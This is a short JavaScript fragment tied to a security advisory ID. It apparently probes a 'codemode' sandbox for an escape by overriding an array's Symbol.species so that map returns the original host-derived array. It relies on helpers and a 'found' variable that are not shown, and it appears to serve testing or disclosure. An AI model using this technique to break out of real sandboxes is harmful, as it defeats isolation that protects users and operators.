// GHSA-grj5-jjm8-h35p
// An array of the host is its own species.
let host;
try { host = codemode.constructor ? Object.keys(codemode) : []; } catch { host = []; }
const probe = Array.isArray(host) ? host : [];
try { probe.constructor = { [Symbol.species]: function () { return probe; } }; const made = probe.map((x) => x); await useObject(made); } catch {}
await useObject(probe);
return found;
